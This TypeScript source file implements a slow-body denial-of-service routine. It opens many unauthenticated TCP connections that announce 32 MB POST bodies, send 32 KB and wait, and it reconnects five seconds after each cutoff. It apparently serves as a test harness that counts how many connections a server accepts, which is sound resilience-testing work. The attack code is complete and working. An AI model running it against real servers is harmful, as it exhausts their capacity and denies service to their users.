import { connect, type Socket } from 'node:net'

const MB = 1024 * 1024
/** Announced size; each connection sends only the start of it. */
const ANNOUNCED = 32 * MB
const SENT = Buffer.alloc(32 * 1024, 'A')
/** Milliseconds before a connection that was cut off returns: the attack is on room, not on the processor. */
const COMES_AGAIN = 5000

/** Callers without a session that announce large bodies, send a little and wait; when cut off they return. */
export interface UnfinishedBodies {
  /** Connections that the server accepted so far. */
  accepted(): number
  stop(): void
}

/** @param paths calls to make in turn, without a token */
export function unfinishedBodies(url: string, connections: number, paths: readonly string[]): UnfinishedBodies {
  const { hostname, port } = new URL(url)
  const open = new Set<Socket>()
  const waiting = new Set<ReturnType<typeof setTimeout>>()
  let accepted = 0
  let stopped = false

  function begin(number: number): void {
    const path = paths[number % paths.length]
    // Every other one announces no size, so the server must count.
    const size = number % 2 === 0 ? `content-length: ${ANNOUNCED}` : 'transfer-encoding: chunked'
    const start = number % 2 === 0 ? '' : `${ANNOUNCED.toString(16)}\r\n`
    const socket = connect({ host: hostname, port: Number(port) })
    open.add(socket)
    socket.on('connect', () => {
      accepted += 1
      socket.write(
        `POST ${path}?tm=1&device=stranger&sign=0 HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-www-form-urlencoded\r\n${size}\r\n\r\n${start}`,
      )
      socket.write(SENT)
    })
    socket.resume()
    socket.on('error', () => {}) // the server cuts it off, which is what is measured
    socket.on('close', () => {
      open.delete(socket)
      if (stopped) return
      const timer = setTimeout(() => {
        waiting.delete(timer)
        begin(number)
      }, COMES_AGAIN)
      waiting.add(timer)
    })
  }

  for (let number = 0; number < connections; number += 1) begin(number)
  return {
    accepted: () => accepted,
    stop() {
      stopped = true
      for (const timer of waiting) clearTimeout(timer)
      for (const socket of open) socket.destroy()
    },
  }
}
